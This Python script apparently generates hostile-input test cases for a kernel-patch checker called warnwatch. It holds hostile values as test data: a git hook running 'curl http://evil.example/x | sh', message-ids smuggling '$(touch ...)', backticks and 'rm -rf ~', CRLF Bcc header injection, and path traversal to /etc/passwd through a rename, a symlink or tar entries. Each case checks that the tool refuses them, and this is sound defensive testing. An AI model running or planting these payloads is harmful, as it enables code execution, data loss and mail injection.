#!/usr/bin/env python3
# How the hostile cases' small inputs were made: each case() call writes
# one directory of tests/hostile/ (see tests/hostile/run for the layout).
# Rerunning it rewrites those directories; a new case can also be added by
# hand, without this script.  Big inputs are never written here: a case's
# gen script makes them at test time.
import os, stat
ROOT = os.path.dirname(os.path.abspath(__file__))
HDR = """From 474778f2bad72ad6dd222f899bb411e7884a6b56 Mon Sep 17 00:00:00 2001
From: Jane Developer <jane@example.org>
Date: Thu, 9 May 2024 10:18:00 +0200
Subject: {subject}
Message-ID: <{mid}@example.org>
To: linux-kernel@vger.kernel.org

Signed-off-by: Jane Developer <jane@example.org>
---
"""
DIFF = """diff --git a/drivers/misc/frob/frob-core.c b/drivers/misc/frob/frob-core.c
index 5b4fa7d..10d55a0 100644
--- a/drivers/misc/frob/frob-core.c
+++ b/drivers/misc/frob/frob-core.c
@@ -16,6 +16,7 @@ static int frob_queue(struct frob_dev *dev, struct frob_req *req)
 	if (!req->buf)
 		return -EINVAL;
 
+	BUG_ON(!dev->regs);
 	list_add_tail(&req->node, &dev->queue);
 	frob_queue_len++;
 	return 0;
"""
TAIL = "\n-- \n2.39.2\n\n"
def mail(subject="[PATCH] frob: check the registers", mid="p1", diff=DIFF, hdr=HDR):
    return hdr.format(subject=subject, mid=mid) + diff + TAIL

def case(name, desc, args, exit, stderr=None, input=None, input_name="input.mbox",
         gen=None, limits=None, needs=None, check=None, user=False, stdin=None, env=None):
    d = os.path.join(ROOT, name)
    os.makedirs(d, exist_ok=True)
    for f in os.listdir(d):
        os.unlink(os.path.join(d, f))
    def w(fn, data, mode=0o644):
        p = os.path.join(d, fn)
        if isinstance(data, str): data = data.encode('utf-8', 'surrogateescape')
        open(p, "wb").write(data)
        os.chmod(p, mode)
    w("desc", desc + "\n")
    w("args", "\n".join(args) + "\n")
    w("exit", "%d\n" % exit)
    if stderr is not None: w("stderr", stderr + "\n")
    if input is not None: w(input_name, input)
    if gen is not None: w("gen", gen, 0o755)
    if limits: w("limits", limits + "\n")
    if needs: w("needs", needs, 0o755)
    if check: w("check", check, 0o755)
    if user: w("user", "nobody\n")
    if stdin is not None: w("stdin", stdin)
    if env: w("env", "\n".join(env) + "\n")

PYGEN = "#!/usr/bin/env python3\n"

full = mail()
# ---------------------------------------------------------------- inputs
case("empty-file", "a 0-byte input is an error, not a clean series",
     ["check", "@IN@"], 2, "warnwatch: '@IN@': empty input", input="")
case("blank-file", "whitespace only is an empty input too",
     ["check", "@IN@"], 2, "warnwatch: '@IN@': empty input", input=" \n\n\t\r\n")
case("empty-stdin", "nothing on stdin",
     ["check", "-"], 2, "warnwatch: '-': empty input", stdin="")
case("directory", "a directory as input",
     ["check", "@TMP@"], 2, "warnwatch: '@TMP@': is a directory")
case("nonexistent", "a file that does not exist",
     ["check", "@TMP@/no-such.mbox"], 2, "warnwatch: cannot open '@TMP@/no-such.mbox': No such file or directory")
case("unreadable", "a file we may not read (run as nobody when root)",
     ["check", "@IN@"], 2, "warnwatch: cannot open '@IN@': Permission denied",
     gen="#!/bin/sh\nprintf 'x' >\"$1\" && chmod 000 \"$1\"\n", user=True)
case("unknown-option", "an option check does not have",
     ["check", "--frobnicate", "@IN@"], 2, "warnwatch: check: unknown option '--frobnicate'", input=full)
case("no-input", "check without an input",
     ["check"], 2, "warnwatch: check: no INPUT given (see --help)",
     env=["GIT_CEILING_DIRECTORIES=@TOP@"])
case("bad-format", "an output format that does not exist",
     ["check", "--format", "xml", "@IN@"], 2, "warnwatch: check: --format wants text, json, gcc or b4, not 'xml'", input=full)
case("unknown-command", "a subcommand that does not exist",
     ["frobnicate"], 2, "warnwatch: 'frobnicate' is not a warnwatch command (see 'warnwatch --help')")
case("dev-zero", "an endless device: read up to the 256 MB cap, then refused",
     ["check", "/dev/zero"], 2, "warnwatch: '/dev/zero': more than 268435456 bytes", limits="mem=1024 time=30")
case("mbox-over-cap", "a 300 MB (sparse) file: over the 256 MB input cap, refused before parsing",
     ["check", "@IN@"], 2, "warnwatch: '@IN@': more than 268435456 bytes",
     gen="#!/bin/sh\ntruncate -s 300M \"$1\"\n", limits="mem=1024 time=30")
# ---------------------------------------------------------------- mbox
case("truncated-in-hunk", "an mbox cut off in the middle of a hunk",
     ["check", "@IN@"], 2,
     "warnwatch: '@IN@': patch 1: 'drivers/misc/frob/frob-core.c' hunk 1 is truncated: the diff ends with 3 old and 3 new lines missing",
     input=full[:full.index("+\tBUG_ON") + 4])
case("truncated-in-line", "an mbox cut off inside a hunk line, without a final newline",
     ["check", "@IN@"], 2,
     "warnwatch: '@IN@': patch 1: 'drivers/misc/frob/frob-core.c' hunk 1 is truncated: the diff ends with 1 old and 1 new lines missing",
     input=full[:full.index("\tfrob_queue_len++") + 6])
case("mbox-nul-in-header", "a NUL byte in a header",
     ["check", "@IN@"], 2, "warnwatch: '@IN@': message 1 (byte 117): NUL byte in header",
     input=full.replace("Date: Thu,", "Date: \0Thu,"))
case("mbox-nul-in-diff", "NUL bytes in an added line: libgit2 would cut the line there, a compiler skips them",
     ["check", "@IN@"], 2,
     "warnwatch: '@IN@': patch 1: 'drivers/misc/frob/frob-core.c' hunk 1, line 4: has a NUL byte (binary data in a text diff)",
     input=full.replace("+\tBUG_ON(!dev->regs);", "+\tfoo();\0\0\0 BUG_ON(!dev->regs);"))
case("mbox-nul-in-body", "NUL bytes in the commit message are harmless",
     ["check", "-q", "@IN@"], 1, None,
     input=full.replace("Signed-off-by:", "Some\0text\0\nSigned-off-by:"))
case("hunk-lies-more", "a hunk header that promises fewer lines than follow",
     ["check", "@IN@"], 2,
     "warnwatch: '@IN@': patch 1: 'drivers/misc/frob/frob-core.c' hunk 1, line 8: more context lines than its header '@@ -16,6 +16,9 @@' says",
     input=mail(diff=DIFF.replace("@@ -16,6 +16,7 @@", "@@ -16,6 +16,9 @@")))
case("hunk-lies-fewer", "a hunk header that promises fewer lines: the rest is prose after the hunk, as git apply reads it",
     ["check", "-q", "@IN@"], 1, None,
     input=mail(diff=DIFF.replace("@@ -16,6 +16,7 @@", "@@ -16,3 +16,4 @@")))
case("hunk-count-overflow", "a hunk count past INT_MAX",
     ["check", "@IN@"], 2,
     "warnwatch: '@IN@': patch 1: 'drivers/misc/frob/frob-core.c' hunk 1: malformed hunk header '@@ -16,6 +16,4294967295 @@ static int frob_queue(struct frob_dev *dev, struct fr'",
     input=mail(diff=DIFF.replace("@@ -16,6 +16,7 @@", "@@ -16,6 +16,4294967295 @@")))
case("hunk-negative-start", "a hunk starting at line -5",
     ["check", "@IN@"], 2,
     "warnwatch: '@IN@': patch 1: 'drivers/misc/frob/frob-core.c' hunk 1: malformed hunk header '@@ --5,6 +16,7 @@ static int frob_queue(struct frob_dev *dev, struct frob_req *r'",
     input=mail(diff=DIFF.replace("@@ -16,6 +16,7 @@", "@@ --5,6 +16,7 @@")))
BIN = """diff --git a/firmware/frob.bin b/firmware/frob.bin
new file mode 100644
index 0000000000000000000000000000000000000000..a1b2c3d4e5f60718293a4b5c6d7e8f9012345678
GIT binary patch
literal 12
TcmZQzVPs@rU}a=xVP*sX0Ga>=

literal 0
HcmV?d00001

"""
case("binary-diff", "a GIT binary patch next to a text change: skipped with a note, the text still checked",
     ["check", "--format", "json", "@IN@"], 1, None, input=mail(diff=BIN + DIFF),
     check="#!/bin/sh\npython3 -c 'import json,sys; d=json.load(open(sys.argv[1])); assert d[\"notes\"][0][\"file\"] == \"firmware/frob.bin\", d[\"notes\"]; assert d[\"findings\"][0][\"macro\"] == \"BUG_ON\", d[\"findings\"]' \"$OUT\"\n")
case("binary-diff-garbage", "a binary patch whose base85 payload is garbage and never ends",
     ["check", "-q", "@IN@"], 0, None,
     input=mail(diff=BIN.replace("TcmZQzVPs@rU}a=xVP*sX0Ga>=", "\x01\x02\xff garbage ~~~~\n" * 50).replace("literal 0\nHcmV?d00001\n\n", "")))
case("crlf-all", "an mbox saved with CRLF line ends throughout",
     ["check", "-q", "@IN@"], 1, None, input=full.replace("\n", "\r\n"),
     check="#!/bin/sh\ngrep -q 'frob-core.c:19: ERROR' \"$OUT\"\n")
case("crlf-mixed", "CRLF in the headers, LF in the body",
     ["check", "-q", "@IN@"], 1, None, input=full.replace("\n", "\r\n", 12),
     check="#!/bin/sh\ngrep -q 'frob-core.c:19: ERROR' \"$OUT\"\n")
case("invalid-utf8", "invalid UTF-8 in the subject and in the added line: the JSON report stays valid UTF-8",
     ["check", "--format", "json", "@IN@"], 1, None,
     input=mail(subject="[PATCH] fr\xc3\x28ob \xff\xfe: x", diff=DIFF.replace("+\tBUG_ON(!dev->regs);", "+\tBUG_ON(!dev->r\xe9gs \xc3); /* \xf0\x9f */")).encode('latin-1'),
     check="#!/bin/sh\npython3 -c 'import json,sys; d=json.load(open(sys.argv[1], encoding=\"utf-8\")); assert d[0][\"findings\"] if isinstance(d, list) else d[\"findings\"]' \"$OUT\"\n")
case("invalid-encoded-words", "RFC 2047 words with bad base64, bad QP, an unknown charset, an unterminated word",
     ["check", "-q", "@IN@"], 1, None,
     input=mail(subject="=?UTF-8?B?!!!notbase64?= =?UTF-8?Q?=ZZ=C3?= =?x-unknown?q?a?= =?UTF-8?B?"))
case("series-missing-patch", "patches 1/3 and 3/3, no 2/3",
     ["check", "@IN@"], 2, "warnwatch: '@IN@': series incomplete: missing patch 2/3",
     input=mail("[PATCH 1/3] frob: a", "m1") + mail("[PATCH 3/3] frob: c", "m3"))
case("series-duplicate-patch", "two different mails both say 1/2",
     ["check", "@IN@"], 2, "warnwatch: '@IN@': duplicate patch 1/2",
     input=mail("[PATCH 1/2] frob: a", "d1") + mail("[PATCH 1/2] frob: a again", "d1b") + mail("[PATCH 2/2] frob: b", "d2"))
case("series-index-over-total", "a patch numbered 5/2",
     ["check", "@IN@"], 2, "warnwatch: '@IN@': patch 5/2 is beyond the series length",
     input=mail("[PATCH 5/2] frob: a", "o1"))
case("rename-to-etc-passwd", "a rename to ../../etc/passwd: check reads it as text and flags nothing in a non-C file",
     ["check", "-q", "@IN@"], 0, None,
     input=mail(diff="""diff --git a/drivers/misc/frob/frob-core.c b/../../etc/passwd
similarity index 90%
rename from drivers/misc/frob/frob-core.c
rename to ../../etc/passwd
index 5b4fa7d..10d55a0 100644
--- a/drivers/misc/frob/frob-core.c
+++ b/../../etc/passwd
@@ -16,6 +16,7 @@ static int frob_queue(struct frob_dev *dev, struct frob_req *req)
 	if (!req->buf)
 		return -EINVAL;
 
+	BUG_ON(!dev->regs);
 	list_add_tail(&req->node, &dev->queue);
 	frob_queue_len++;
 	return 0;
"""))
DOTGIT = """diff --git a/.git/hooks/post-checkout b/.git/hooks/post-checkout
new file mode 100755
index 0000000..10d55a0
--- /dev/null
+++ b/.git/hooks/post-checkout
@@ -0,0 +1,2 @@
+#!/bin/sh
+curl http://evil.example/x | sh
"""
case("touches-dot-git", "a patch adding a .git/hooks script: text to check, nothing written",
     ["check", "-q", "@IN@"], 0, None, input=mail(diff=DOTGIT))
# ---------------------------------------------------------------- big inputs
BIG = r'''#!/usr/bin/env python3
import sys
HDR = b"From 474778f2bad72ad6dd222f899bb411e7884a6b56 Mon Sep 17 00:00:00 2001\nFrom: Jane Developer <jane@example.org>\nDate: Thu, 9 May 2024 10:18:00 +0200\nSubject: [PATCH] frob: %s\nMessage-ID: <big@example.org>\n\n---\n"
FILE = b"diff --git a/drivers/misc/frob/big.c b/drivers/misc/frob/big.c\n--- a/drivers/misc/frob/big.c\n+++ b/drivers/misc/frob/big.c\n"
f = open(sys.argv[1], "wb")
'''
case("patch-200mb", "one 200 MB patch mail (3.3 million added lines, no function to cut at) with one BUG_ON at the end",
     ["check", "-q", "@IN@"], 1, None,
     gen=BIG + r'''n = 3300000
f.write(HDR % b"a big one")
f.write(b"diff --git a/drivers/misc/frob/big.c b/drivers/misc/frob/big.c\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/drivers/misc/frob/big.c\n")
f.write(b"@@ -0,0 +1,%d @@\n" % (n + 1))
chunk = b"+\tfrob_write(dev, FROB_REG_CTRL, FROB_CTRL_ENABLE | FROB_CTRL_IRQ);\n" * 10000
for i in range(n // 10000):
    f.write(chunk)
f.write(b"+\tBUG_ON(!dev);\n-- \n2.39.2\n")
''', limits="mem=2560 time=120",
     check="#!/bin/sh\ngrep -q 'big.c:3300001: ERROR: new BUG_ON()' \"$OUT\"\n")
case("patch-200mb-functions", "a 200 MB new file of 66,000 functions, one BUG_ON at the end",
     ["check", "-q", "@IN@"], 1, None,
     gen=BIG + r'''per, nfn = 50, 66000
f.write(HDR % b"many functions")
f.write(b"diff --git a/drivers/misc/frob/big.c b/drivers/misc/frob/big.c\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/drivers/misc/frob/big.c\n")
f.write(b"@@ -0,0 +1,%d @@\n" % (nfn * per + 1))
body = b"+{\n" + b"+\tfrob_write(dev, FROB_REG_CTRL, FROB_CTRL_ENABLE | FROB_CTRL_IRQ);\n" * 45 + b"+\treturn 0;\n+}\n+\n"
for i in range(nfn):
    f.write(b"+static int frob_fn%07d(struct frob_dev *dev)\n" % i + body)
f.write(b"+\tBUG_ON(!dev);\n-- \n2.39.2\n")
''', limits="mem=1536 time=90",
     check="#!/bin/sh\ngrep -q 'big.c:3300001: ERROR: new BUG_ON()' \"$OUT\"\n")
case("line-10mb-in-hunk", "a 10 MB added line: over the 1 MB line cap of a diff",
     ["check", "@IN@"], 2,
     "warnwatch: '@IN@': patch 1: 'drivers/misc/frob/big.c' hunk 1, line 2: longer than 1048576 bytes",
     gen=BIG + r'''f.write(HDR % b"long line" + FILE + b"@@ -1,1 +1,2 @@\n \tctx();\n+" + b"x" * (10 << 20) + b"\n-- \n2.39.2\n")
''', limits="mem=512 time=30")
case("line-10mb-in-message", "a 10 MB line in the commit message: the diff after it is still checked",
     ["check", "-q", "@IN@"], 1, None,
     gen=BIG + r'''f.write(HDR % b"long prose" + b"y" * (10 << 20) + b"\n" + FILE + b"@@ -1,1 +1,2 @@\n \tctx();\n+\tBUG_ON(1);\n-- \n2.39.2\n")
''', limits="mem=512 time=30",
     check="#!/bin/sh\ngrep -q 'big.c:2: ERROR' \"$OUT\"\n")
case("header-line-10mb", "a 10 MB Subject: line, over the 64 KB header line cap",
     ["check", "@IN@"], 2, "warnwatch: '@IN@': message 1 (byte 148): header line longer than 65536 bytes",
     gen=BIG + r'''f.write((HDR % (b"z" * (10 << 20))) + FILE + b"@@ -1,1 +1,2 @@\n \tctx();\n+\tBUG_ON(1);\n")
''', limits="mem=512 time=30")
case("too-many-messages", "10,001 messages: over the 10,000 message cap",
     ["check", "@IN@"], 2, "warnwatch: '@IN@': more than 10000 messages",
     gen=BIG + r'''for i in range(10001):
    f.write(b"From x Thu Jan  1 00:00:00 1970\nFrom: a@b\nSubject: m%d\nMessage-ID: <m%d@x>\n\nhi\n\n" % (i, i))
''', limits="mem=512 time=30")
case("many-files", "one patch touching 100,000 files, each with a BUG_ON",
     ["check", "-q", "--format", "json", "@IN@"], 1, None,
     gen=BIG + r'''f.write(HDR % b"many files")
for i in range(100000):
    f.write(b"diff --git a/d/f%d.c b/d/f%d.c\n--- a/d/f%d.c\n+++ b/d/f%d.c\n@@ -1,1 +1,2 @@\n \tctx();\n+\tBUG_ON(%d);\n" % (i, i, i, i, i))
f.write(b"-- \n2.39.2\n")
''', limits="mem=1024 time=90",
     check="#!/bin/sh\npython3 -c 'import json,sys; d=json.load(open(sys.argv[1])); d=d[0] if isinstance(d,list) else d; n=len(d[\"findings\"]); assert n==100000, n' \"$OUT\"\n")

case("findings-over-cap", "one patch with 100,001 BUG_ONs: over the 100,000 findings cap",
     ["check", "@IN@"], 2, "warnwatch: '@IN@': patch 1: more than 100000 findings, over warnwatch's cap: too big to review",
     gen=BIG + r'''f.write(HDR % b"too many")
f.write(b"diff --git a/d/f.c b/d/f.c\n--- a/d/f.c\n+++ b/d/f.c\n@@ -1,1 +1,100002 @@\n \tctx();\n")
f.write(b"+\tBUG_ON(x);\n" * 100001)
f.write(b"-- \n2.39.2\n")
''', limits="mem=1024 time=60")
# ---------------------------------------------------------------- review
FAKEB4 = """#!/bin/sh
# A stand-in b4 that records being run: these cases must refuse first.
cat > "$TMP/b4" <<'EOF'
#!/bin/sh
echo "$@" >> "${0%/*}/b4-called"
exit 1
EOF
chmod +x "$TMP/b4"
: > "$1"
"""
NOB4 = "#!/bin/sh\nif [ -e \"$TMP/b4-called\" ]; then echo \"b4 ran: $(cat \"$TMP/b4-called\")\"; exit 1; fi\n"
for name, mid, why, msg in [
    ("review-msgid-shell", "$(touch /tmp/warnwatch-pwned)@x", "shell command substitution", "message-id has a character outside the allowed set"),
    ("review-msgid-backticks", "id:`id`@example.org", "backticks after an id: prefix", "message-id has a character outside the allowed set"),
    ("review-msgid-semicolon", "a;rm -rf ~@example.org", "a ';' and spaces", "message-id has a character outside the allowed set"),
    ("review-msgid-dotdot", "../../etc/passwd@x", "'..' path segments (public-inbox URLs are paths)", "message-id has an empty, '.' or '..' path segment"),
    ("review-msgid-dotdot-inside", "a/../b@example.org", "a '..' segment in the middle", "message-id has an empty, '.' or '..' path segment"),
    ("review-msgid-too-long", "a" * 300 + "@example.org", "300 bytes", "message-id too long"),
    ("review-msgid-two-ids", "<a@b> <c@d>", "two ids in one argument", "message-id has a character outside the allowed set"),
    ("review-msgid-no-at", "noatsign", "no '@'", "message-id needs exactly one '@'"),
]:
    shown = mid if len(mid) <= 80 else mid[:80] + "..."
    case(name, "review of a message-id with %s: refused before b4 runs" % why,
         ["review", mid], 2, "warnwatch: review: invalid message-id '%s': %s" % (shown, msg),
         gen=FAKEB4, env=["WARNWATCH_B4=@TMP@/b4"], check=NOB4)
case("review-msgid-dash", "a message-id that b4 would take for an option: refused before b4 runs",
     ["review", "--", "-oProxyCommand=x@y"], 2,
     "warnwatch: review: invalid message-id '-oProxyCommand=x@y': message-id starts with '-'",
     gen=FAKEB4, env=["WARNWATCH_B4=@TMP@/b4"], check=NOB4)
NEEDB4 = "#!/bin/sh\ncommand -v b4 >/dev/null || { echo 'b4 is not installed'; exit 1; }\n"
HDRCHECK = r'''#!/usr/bin/env python3
# The drafted reply's header block: only the headers reply.c writes, each
# once, no CR, no Bcc, nothing injected from the series.
import os, sys
text = open(os.environ["OUT"], "rb").read().decode("utf-8")
head = text.split("\n\n", 1)[0]
assert "\r" not in head, "CR in headers"
names = []
for line in head.split("\n"):
    if line[:1] in (" ", "\t"):
        continue
    names.append(line.split(":", 1)[0])
allowed = {"From", "To", "Cc", "Subject", "Date", "Message-ID", "In-Reply-To",
           "References", "MIME-Version", "Content-Type", "Content-Transfer-Encoding",
           "X-Patchwork-Hint"}
bad = [n for n in names if n not in allowed]
assert not bad, "injected headers: %s" % bad
assert len(names) == len(set(names)), "a header twice: %s" % names
assert "victim" not in head.split("Subject:")[0], "victim among the recipients"
print("headers:", " ".join(names))
'''
case("review-subject-crlf", "a subject whose encoded word decodes to CR/LF + 'Bcc:': the drafted reply has no injected header",
     ["review", "--mbox", "@IN@"], 0, None,
     input=mail(subject="=?UTF-8?Q?[PATCH]_frob:_x=0D=0ABcc:_victim@example.org=0D=0AX-Injected:_1?="),
     env=["SOURCE_DATE_EPOCH=1700000000"], needs=NEEDB4, check=HDRCHECK)
case("review-cc-crlf", "Cc: display names carrying CR/LF and a quoted 'Bcc:': no injected header",
     ["review", "--mbox", "@IN@"], 0, None,
     input=mail().replace("To: linux-kernel@vger.kernel.org", "To: linux-kernel@vger.kernel.org\nCc: =?UTF-8?Q?x=0D=0ABcc:_v@example.org?= <a@example.org>, \"evil\r\nBcc: w@example.org\" <b@example.org>", 1),
     env=["SOURCE_DATE_EPOCH=1700000000"], needs=NEEDB4, check=HDRCHECK)
case("review-msgid-header-crlf", "a Message-ID header carrying CR/LF and a 'Bcc:': nothing to answer, refused",
     ["review", "--mbox", "@IN@"], 2, "warnwatch: review '@IN@': the message to answer has no valid Message-ID",
     input=mail(mid="x>\r\nBcc: v@example.org\r\nX: <y"), needs=NEEDB4)
case("review-mbox-relative", "--mbox with a relative path (b4 runs in its own directory)",
     ["review", "--mbox", "input.mbox"], 0, None,
     gen="#!/bin/sh\ncp \"$CASE/series.mbox\" \"$TMP/input.mbox\" && cp \"$CASE/series.mbox\" \"$1\"\n",
     env=["SOURCE_DATE_EPOCH=1700000000"], needs=NEEDB4,
     check="#!/bin/sh\ngrep -q '^In-Reply-To: <p1@example.org>' \"$OUT\"\n")
open(ROOT + "/review-mbox-relative/series.mbox", "w").write(full)
case("review-mbox-missing", "--mbox naming no file",
     ["review", "--mbox", "@TMP@/none.mbox"], 2,
     "warnwatch: review '@TMP@/none.mbox': cannot read '@TMP@/none.mbox': No such file or directory", needs=NEEDB4)
case("review-broken-config", "a config file with an unterminated quote",
     ["review", "--config", "@CASE@/bad.conf", "--mbox", "@IN@"], 2,
     "warnwatch: review '@IN@': @CASE@/bad.conf:2: bad quoting in the value of 'name'",
     input=full, needs=NEEDB4)
open(ROOT + "/review-broken-config/bad.conf", "w").write('[identity]\nname = "unterminated\n')
case("review-broken-verdict", "a kernel-ci verdict that is not JSON",
     ["review", "--verdict", "@CASE@/verdict.json", "--mbox", "@IN@"], 2,
     "warnwatch: review '@IN@': kernel-ci verdict '@CASE@/verdict.json' line 1: unexpected token near end of file",
     input=full, needs=NEEDB4)
open(ROOT + "/review-broken-verdict/verdict.json", "w").write('{"verdict": ')
# ---------------------------------------------------------------- rules
RULES = """#!/bin/sh
mkdir -p "$TMP/rules" && printf '%s' "$RULE" > "$TMP/rules/broken.json" && cp "$CASE/input.mbox" "$1"
"""
def rules_case(name, desc, text, err):
    case(name, desc, ["check", "--rules", "@TMP@/rules", "@IN@"], 2, err,
         gen=RULES.replace('"$RULE"', "'" + text.replace("'", "'\\''") + "'"))
    open(ROOT + "/%s/input.mbox" % name, "w").write(full)
rules_case("rules-broken-json", "a rules file that is not JSON", '{"families": [ {"id": ',
           "warnwatch: @TMP@/rules/broken.json:1:22: unexpected token near end of file")
import json as _json
_fam = _json.load(open(os.path.join(ROOT, "..", "..", "rules", "core.json")))["families"][0]
_fam["class"] = "bugz"
rules_case("rules-unknown-class", "a rule family with a class that does not exist",
           _json.dumps({"families": [_fam]}),
           "warnwatch: @TMP@/rules/broken.json: families[0].class: unknown class 'bugz'")
case("rules-missing-dir", "--rules naming no directory",
     ["check", "--rules", "@TMP@/none", "@IN@"], 2, "warnwatch: cannot open rules directory '@TMP@/none': No such file or directory",
     input=full)
case("rules-empty-dir", "--rules naming a directory without rule files",
     ["check", "--rules", "@TMP@", "@IN@"], 2, "warnwatch: no rule files (*.json) in '@TMP@'", input=full)
# ---------------------------------------------------------------- git
case("git-not-a-repo", "--git on a directory that is no repository",
     ["check", "--git", "@TMP@", "HEAD~1..HEAD"], 2,
     "warnwatch: '@TMP@': not a git repository: could not find repository from '@TMP@'")
case("git-bad-range", "--git with a range naming no commit",
     ["check", "--git", "@TMP@/repo", "nonexist..HEAD"], 2,
     "warnwatch: '@TMP@/repo': bad range: revspec 'nonexist' not found",
     gen="#!/bin/sh\ngit init -q \"$TMP/repo\" && git -C \"$TMP/repo\" -c user.name=a -c user.email=a@b commit -q --allow-empty -m x && : > \"$1\"\n")
# ---------------------------------------------------------------- ci
NEEDTREE = r'''#!/bin/sh
# The apply step needs the imported 6.1 tree (t0210 or any earlier
# `warnwatch ci` imports it); no kernel is built or booted here.
cache=${WARNWATCH_CACHE:-${XDG_CACHE_HOME:-$HOME/.cache}/warnwatch}
ls -d "$cache"/git/linux-6.1.*.git >/dev/null 2>&1 || { echo "the linux 6.1 tree is not imported in $cache (run t0210 first)"; exit 1; }
if [ -e "$cache/locks/linux-source-6.1.lock" ] && ! flock -n "$cache/locks/linux-source-6.1.lock" true; then
	echo "the linux 6.1 tree is locked by another warnwatch run"; exit 1
fi
'''
def ci_case(name, desc, body, err):
    # The verdict is ci's primary output: stdout; stderr stays empty.
    case(name, desc, ["ci", "@IN@"], 1, None, input=body, needs=NEEDTREE, limits="mem=2048 time=120",
         check="#!/bin/sh\nhead -n 1 \"$OUT\" | grep -qxF %s\n" % ("'" + err.replace("'", "'\\''") + "'"))
ci_case("ci-rename-etc-passwd", "ci: a patch renaming a file to ../../etc/passwd is refused at apply time",
        mail(diff="""diff --git a/kernel/time/timeconv.c b/../../etc/passwd
similarity index 100%
rename from kernel/time/timeconv.c
rename to ../../etc/passwd
"""), "the patch is refused: '../../etc/passwd' is a path that leaves the tree")
ci_case("ci-touches-dot-git", "ci: a patch adding .git/hooks/post-checkout is refused",
        mail(diff=DOTGIT), "the patch is refused: '.git/hooks/post-checkout' is a path inside .git")
ci_case("ci-symlink-outside", "ci: patch 1 adds a symlink to ../../../../../etc, patch 2 writes through it: refused at patch 1",
        mail("[PATCH 1/2] frob: firmware link", "s1", """diff --git a/drivers/misc/fw b/drivers/misc/fw
new file mode 120000
index 0000000..1111111
--- /dev/null
+++ b/drivers/misc/fw
@@ -0,0 +1 @@
+../../../../../etc
\\ No newline at end of file
""") + mail("[PATCH 2/2] frob: through the link", "s2", """diff --git a/drivers/misc/fw/passwd b/drivers/misc/fw/passwd
new file mode 100644
index 0000000..1111111
--- /dev/null
+++ b/drivers/misc/fw/passwd
@@ -0,0 +1 @@
+evil::0:0::/:/bin/sh
"""), "patch 1/2 is refused: symlink 'drivers/misc/fw' points outside the tree ('../../../../../etc')")
# ---------------------------------------------------------------- census
TARS = r'''#!/usr/bin/env python3
import io, lzma, os, sys, tarfile
kind = open(os.path.join(os.environ["CASE"], "kind")).read().strip()
out = sys.argv[1]
def tar(entries):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w") as t:
        for name, data in entries:
            if data is None:
                ti = tarfile.TarInfo(name); ti.type = tarfile.SYMTYPE; ti.linkname = "/etc/passwd"; t.addfile(ti)
            else:
                ti = tarfile.TarInfo(name); ti.size = len(data); t.addfile(ti, io.BytesIO(data))
    return b.getvalue()
files = [("linux/kernel/f%d.c" % i, b"void f%d(void) { BUG_ON(1); }\n" % i) for i in range(300)]
if kind == "traversal":
    data = tar([("linux/../../etc/x.c", b"void f(void) { BUG_ON(1); }\n"),
                ("/tmp/warnwatch-abs.c", b"void g(void) { WARN_ON(1); }\n"),
                ("linux/kernel/link.c", None),
                ("linux/kernel/z.c", b"void h(void) { BUG(); }\n")])
elif kind == "truncated-xz":
    data = lzma.compress(tar(files), format=lzma.FORMAT_XZ)
    data = data[:len(data) // 2]
elif kind == "truncated-tar":
    data = tar(files)[:100000]
elif kind == "not-an-archive":
    data = b"this is not an archive\n" * 100
open(out, "wb").write(data)
'''
def census_case(name, kind, desc, rc, err, check=None):
    case(name, desc, ["census", "-q", "@IN@"], rc, err, gen=TARS, check=check)
    open(ROOT + "/%s/kind" % name, "w").write(kind + "\n")
census_case("census-tar-traversal", "traversal", "census of a tarball with '../', absolute and symlink entries: read in place, nothing written",
            0, None, check="#!/bin/sh\n[ ! -e /tmp/warnwatch-abs.c ] && grep -q '^total  *3$' \"$OUT\"\n")
census_case("census-truncated-xz", "truncated-xz", "census of a .tar.xz cut in half", 2,
            "warnwatch: census: '@IN@': Truncated input file (needed 512 bytes, only 0 available)")
census_case("census-truncated-tar", "truncated-tar", "census of a tar cut inside an entry", 2,
            "warnwatch: census: '@IN@': Truncated input file (needed 512 bytes, only 160 available)")
census_case("census-not-an-archive", "not-an-archive", "census of a text file", 2,
            "warnwatch: census: '@IN@': Unrecognized archive format")
